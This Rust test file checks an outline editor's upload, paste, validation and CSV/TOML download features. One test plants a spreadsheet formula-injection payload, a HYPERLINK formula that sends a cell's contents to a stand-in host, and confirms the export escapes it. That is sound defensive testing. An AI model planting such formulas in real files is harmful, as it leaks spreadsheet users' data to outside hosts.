//! Replacing the whole outline from an upload or pasted text; a broken
//! replacement lists every problem and changes nothing; downloads read back
//! as the stored outline and upload unchanged.

use docket::domain::Role;
use docket::outline::{OutlineFormat, parse};

use super::{CSV_HEADER, file, labelled, labels, pasted, retag_none};
use crate::editor::{
    DEMO_NODES, OUTLINE, REPLACE_PATH, digest, errors, field, flash, node, refused, signed_in,
    stored,
};
use crate::helpers::{Multipart, TestApp, attrs, texts};

/// The demo outline as shipped (what `TestApp::spawn` loads).
const DEMO_TOML: &str = include_str!("../../../../src/demo/nistir_8200_outline.toml");

/// What the replace form carries besides its token.
enum Input<'a> {
    /// A chosen file: its name and contents.
    File(&'a str, &'a str),
    /// Pasted text and the format chosen for it.
    Pasted(&'a str, &'a str),
}

impl Input<'_> {
    fn into_form(self, form: Multipart) -> Multipart {
        match self {
            Self::File(name, text) => file(form, name, text),
            Self::Pasted(text, format) => pasted(form, text, format),
        }
    }
}

/// The outline page after a refused replacement; the demo outline is still
/// stored, all of it.
async fn refused_replacement(
    app: &TestApp,
    response: reqwest::Response,
    what: &str,
) -> scraper::Html {
    let page = refused(response, 422, what).await;
    assert_eq!(stored(app).len(), DEMO_NODES, "{what}: nothing stored");
    page
}

on_both_backends! {
    async fn the_outline_is_replaced_from_an_upload_or_pasted_text(db: TestDb) {
        let app = TestApp::spawn(db).await;
        let (admin, _) = signed_in(&app, Role::Admin).await;
        let kept = [node(&app, "5").id, node(&app, "5.1").id, stored(&app)[0].id];

        // An uploaded CSV: three nodes kept (same ids), one new, 30 gone.
        let csv = format!(
            "{CSV_HEADER},Executive Summary,front,,v,viii,95,230\n5,IoT Applications,,,9,21,641,1180\n\
             5.1,Connected Vehicles,,,9,12,660,800\n11,Outlook,,,117,120,5401,5500\n"
        );
        let response = admin.replace(|f| file(f, "outline.csv", &csv)).await;
        let page = admin.followed(response).await;
        assert_eq!(flash(&page), [format!("Outline replaced. Nodes: 1 added, 3 kept, 30 removed. {}", retag_none(0))]);
        let nodes = stored(&app);
        assert_eq!(labelled(&nodes), [
            (String::new(), "Executive Summary".to_owned()),
            ("5".to_owned(), "IoT Applications".to_owned()),
            ("5.1".to_owned(), "Connected Vehicles".to_owned()),
            ("11".to_owned(), "Outlook".to_owned()),
        ]);
        assert_eq!([nodes[1].id, nodes[2].id, nodes[0].id], kept);
        assert_eq!(nodes[2].parent_id, Some(kept[0]));
        assert_eq!(labels(&page), ["", "5", "5.1", "11"]);

        // An uploaded TOML file (numbers quoted, as TOML needs for 5.10).
        let toml = "[[section]]\nnumber = \"5\"\ntitle = \"IoT Applications\"\nline_start = 641\nline_end = 1180\n\n\
                    [[section]]\nnumber = \"5.10\"\ntitle = \"Smart Cities\"\nline_start = 1101\nline_end = 1180\n\n\
                    [[section]]\nnumber = 11\ntitle = \"Outlook\"\npage_start = \"117\"\npage_end = \"120\"\n";
        let response = admin.replace(|f| file(f, "outline.toml", toml)).await;
        let page = admin.followed(response).await;
        assert_eq!(flash(&page), [format!("Outline replaced. Nodes: 1 added, 2 kept, 2 removed. {}", retag_none(0))]);
        assert_eq!(labels(&page), ["5", "5.10", "11"]);
        assert_eq!(node(&app, "5").id, kept[0]);
        assert_eq!(node(&app, "5").page_start, None, "a replacement is the whole truth");

        // A file without a telling extension, read in the chosen format; a
        // file wins over pasted text.
        let response = admin
            .replace(|f| {
                f.file("file", "outline.txt", "text/plain", format!("{CSV_HEADER}1,Introduction,,,1,2,231,300\n").as_bytes())
                    .text("text", "this is not an outline")
                    .text("format", "csv")
            })
            .await;
        let page = admin.followed(response).await;
        assert_eq!(labels(&page), ["1"]);

        // Pasted text: the demo outline back (TOML), then CSV.
        let response = admin.replace(|f| pasted(f, DEMO_TOML, "toml")).await;
        let page = admin.followed(response).await;
        assert_eq!(flash(&page), [format!("Outline replaced. Nodes: 32 added, 1 kept, 0 removed. {}", retag_none(0))]);
        assert_eq!(stored(&app).len(), DEMO_NODES);
        let response = admin.replace(|f| pasted(f, &format!("{CSV_HEADER}A,Acronyms,,,42,44,2121,2230\n"), "csv")).await;
        let page = admin.followed(response).await;
        assert_eq!(flash(&page), [format!("Outline replaced. Nodes: 0 added, 1 kept, 32 removed. {}", retag_none(0))]);
        assert_eq!(labels(&page), ["Appendix A"]);
    }

    async fn a_broken_replacement_lists_every_problem_and_changes_nothing(db: TestDb) {
        let app = TestApp::spawn(db).await;
        let (admin, _) = signed_in(&app, Role::Admin).await;
        let before = digest(&app);

        let bad = format!(
            "{CSV_HEADER}4,Functional description,,,4,9,400,640\n5,Applications,,,9,21,600,1180\n\
             5,Applications again,,,,,,\n5.9.1,Orphan,,,,,,\n"
        );
        let response = admin.replace(|f| file(f, "bad.csv", &bad)).await;
        let page = refused_replacement(&app, response, "bad.csv").await;
        let mut listed = errors(&page);
        listed.sort();
        assert_eq!(listed, [
            "row 3 (5): lines 600–1180 overlap 4 (lines 400–640, row 2)",
            "row 4 (5): duplicate number: 5 is also row 3",
            "row 5 (5.9.1): missing parent: the numbering puts 5.9.1 under 5.9, which is not in the outline",
        ]);
        assert_eq!(texts(&page, ".errors p"), ["Nothing was changed: the outline would break 3 rule(s)."]);
        assert_eq!(digest(&app), before);

        // Pasted: the text and its format come back to be fixed.
        let toml = "[[section]]\nnumber = \"1\"\ntitle = \"One\"\nline_start = 10\nline_end = 5\n\n\
                    [[section]]\nnumber = \"2\"\ntitle = \"\"\n";
        let response = admin.replace(|f| pasted(f, toml, "toml")).await;
        let page = refused_replacement(&app, response, "pasted toml").await;
        assert_eq!(errors(&page), [
            "[[section]] #1 (1): line_start comes after line_end",
            "[[section]] #2 (2): title is empty",
        ]);
        assert_eq!(field(&page, REPLACE_PATH, "text"), toml);
        assert_eq!(field(&page, REPLACE_PATH, "format"), "toml");

        // Files that cannot be read at all.
        for (what, input, expected) in [
            ("nothing chosen", Input::Pasted("  \n", "csv"),
             "cannot read the outline: choose a file or paste the outline"),
            ("a decimal number", Input::Pasted("[[section]]\nnumber = 5.10\ntitle = \"x\"\n", "toml"),
             "cannot read the outline: [[section]] #1: number = 5.1 is read as a decimal number; quote it, e.g. number = \"5.1\""),
            ("an unknown column", Input::Pasted("number,titel\n1,One\n", "csv"),
             "cannot read the outline: unknown column `titel` in the header; expected number,title,kind,volume,page_start,page_end,line_start,line_end,parent"),
            ("only a header", Input::File("empty.csv", CSV_HEADER),
             "the outline has no sections"),
        ] {
            let response = admin.replace(|f| input.into_form(f)).await;
            let page = refused_replacement(&app, response, what).await;
            assert_eq!(errors(&page), [expected], "{what}");
        }
        let response = admin
            .replace(|f| f.file("file", "outline.csv", "text/csv", b"number,title\n1,\xff\xfe\n").text("format", "csv"))
            .await;
        let page = refused_replacement(&app, response, "not UTF-8").await;
        assert_eq!(errors(&page), ["cannot read the outline: the file is not UTF-8 text; save it as UTF-8 CSV or TOML"]);
        let response = admin
            .replace(|f| f.file("file", "outline.xlsx", "application/octet-stream", b"PK\x03\x04").text("format", ""))
            .await;
        let page = refused_replacement(&app, response, "a spreadsheet").await;
        assert_eq!(errors(&page), ["cannot read the outline: name the file .csv or .toml, or choose its format"]);
        assert_eq!(digest(&app), before);
    }

    async fn a_downloaded_outline_uploads_unchanged(db: TestDb) {
        let app = TestApp::spawn(db).await;
        let (admin, _) = signed_in(&app, Role::Admin).await;
        let before = digest(&app);

        for (extension, content_type) in [("csv", "text/csv; charset=utf-8"), ("toml", "application/toml; charset=utf-8")] {
            let response = admin.get(&format!("{OUTLINE}.{extension}")).await;
            assert_eq!(response.status().as_u16(), 200, "{extension}");
            assert_eq!(response.headers()["content-type"], content_type);
            assert_eq!(
                response.headers()["content-disposition"],
                format!("attachment; filename=\"nistir-8200-outline.{extension}\"").as_str()
            );
            let text = response.text().await.unwrap();
            let name = format!("nistir-8200-outline.{extension}");
            let response = admin.replace(|f| file(f, &name, &text)).await;
            let page = admin.followed(response).await;
            assert_eq!(
                flash(&page),
                [format!("Outline replaced. Nodes: 0 added, {DEMO_NODES} kept, 0 removed. {}", retag_none(0))],
                "{extension}"
            );
            assert_eq!(digest(&app), before, "{extension}: every node as it was, ids included");
        }
    }

    async fn downloads_read_back_as_the_stored_outline(db: TestDb) {
        let app = TestApp::spawn(db).await;
        let (editor, _) = signed_in(&app, Role::Editor).await;
        let demo = parse(DEMO_TOML, OutlineFormat::Toml).unwrap();

        let csv = editor.get(&format!("{OUTLINE}.csv")).await.text().await.unwrap();
        // Every field quoted (`export::cells`: no spreadsheet splits a cell).
        assert!(csv.starts_with("\"number\",\"title\",\"kind\",\"volume\",\"page_start\",\"page_end\",\"line_start\",\"line_end\",\"parent\"\n"), "{csv}");
        assert!(csv.contains("\n\"5.1\",\"Connected Vehicles IoT\",\"section\",\"\",\"9\",\"12\",\"660\",\"800\",\"\"\n"), "{csv}");
        assert!(csv.contains("\n\"1\",\"IoT components and their interactions\",\"figure\",\"\",\"6\",\"6\",\"480\",\"500\",\"4\"\n"), "{csv}");
        assert_eq!(parse(&csv, OutlineFormat::Csv).unwrap(), demo);

        let toml = editor.get(&format!("{OUTLINE}.toml")).await.text().await.unwrap();
        assert!(toml.contains("number = \"5.1\""), "{toml}");
        assert_eq!(parse(&toml, OutlineFormat::Toml).unwrap(), demo);

        // Also after edits: what is downloaded is what is stored.
        let (admin, _) = signed_in(&app, Role::Admin).await;
        let response = admin.save_node(node(&app, "D.10").id, &[("title", "Supply Chain, \"Risk\" Management; a=b")]).await;
        admin.followed(response).await;
        let response = admin.add_node(&[("number", "5.10"), ("title", "Smart Cities")]).await;
        admin.followed(response).await;
        // A title a spreadsheet would run as a formula is written as text.
        let response = admin.save_node(node(&app, "5.1").id, &[("title", "=HYPERLINK(\"http://example.com/\"&A1)")]).await;
        admin.followed(response).await;
        let csv = editor.get(&format!("{OUTLINE}.csv")).await.text().await.unwrap();
        assert!(csv.contains("\n\"5.1\",\"'=HYPERLINK(\"\"http://example.com/\"\"&A1)\",\"section\","), "{csv}");
        let toml = editor.get(&format!("{OUTLINE}.toml")).await.text().await.unwrap();
        let expected = docket::outline::build(docket::outline::entries_of(&stored(&app))).unwrap();
        assert_eq!(parse(&csv, OutlineFormat::Csv).unwrap(), expected);
        assert_eq!(parse(&toml, OutlineFormat::Toml).unwrap(), expected);
        assert!(expected.nodes.iter().any(|n| n.number == "5.10"));

        assert_eq!(editor.get(&format!("{OUTLINE}.xlsx")).await.status().as_u16(), 404);
    }

    async fn pasting_more_than_an_outline_is_refused(db: TestDb) {
        let app = TestApp::spawn(db).await;
        let (admin, _) = signed_in(&app, Role::Admin).await;
        let before = stored(&app);
        let huge = format!("number,title\n{}", "1,x\n".repeat(300_000));
        let response = admin.replace(|form| form.text("text", &huge).text("format", "csv")).await;
        assert_eq!(response.status().as_u16(), 422);
        let page = scraper::Html::parse_document(&response.text().await.unwrap());
        assert!(errors(&page)[0].contains("larger than 1 MB"), "{:?}", errors(&page));
        assert!(attrs(&page, "textarea[name=text]", "name").len() == 1);
        assert!(texts(&page, "textarea[name=text]")[0].is_empty());
        assert_eq!(stored(&app).len(), before.len());
    }
}
